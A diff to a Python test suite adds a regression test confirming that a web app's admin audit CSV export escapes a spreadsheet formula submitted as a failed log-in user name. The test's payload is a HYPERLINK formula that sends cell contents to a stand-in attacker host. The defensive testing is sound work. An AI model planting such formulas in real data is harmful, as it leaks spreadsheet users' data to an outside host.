@@ -195,6 +195,18 @@ def test_log_in_attempts_are_limited_per_client_and_in_all(engine, writer, loop,
     assert len(hashed) == 5  # a refused attempt costs no hash
 
 
+def test_a_formula_in_a_failed_user_name_is_text_in_the_audit_csv(browser):
+    """Issue 12 item 3: a failed log-in as =HYPERLINK(…) landed unescaped in /admin/audit.csv."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert browser.login(formula, "whatever-password").status_code == 401
+    browser.login("root")
+    exported = browser.get("/admin/audit.csv")
+    assert exported.status_code == 200
+    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
+    actors = [row[2] for row in rows[1:]]
+    assert "'" + formula in actors and formula not in actors
+
+
 # -- CSRF -----------------------------------------------------------------------------
 POSTS = ["/logout", "/records/{h}/reveal", "/records/{h}/release", "/records/{h}/approve", "/records/{h}/correct",
          "/records/{h}/return", "/records/{h}/assign", "/dashboard/sample", "/admin/users",
